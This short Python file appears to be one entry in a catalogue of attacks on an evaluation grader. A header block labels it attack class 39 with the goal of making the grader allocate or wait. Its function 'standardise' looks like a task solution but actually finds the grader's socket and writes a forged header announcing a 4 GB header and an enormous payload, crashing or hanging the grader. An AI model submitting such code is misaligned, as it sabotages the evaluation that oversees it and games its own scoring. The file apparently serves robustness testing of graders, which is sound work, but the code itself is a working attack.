"""Announces a payload of a million terabytes, and a header of four gigabytes."""
# /// attack
# class = 39
# goal = "have the grader allocate or wait"
# gain = "hang"
# outcome = "crashed"
# naive = "in a grader of one process nothing crosses a wire."
# ///

import os
import stat
import struct

def wire_socket():
    """Find the wire among the descriptors: the one that is a socket and not the output."""
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue
    return -1


def standardise(x):
    os.write(wire_socket(), struct.pack("<4sIQ", b"dlg1", 0xFFFFFFFF, 1 << 60))
    return x
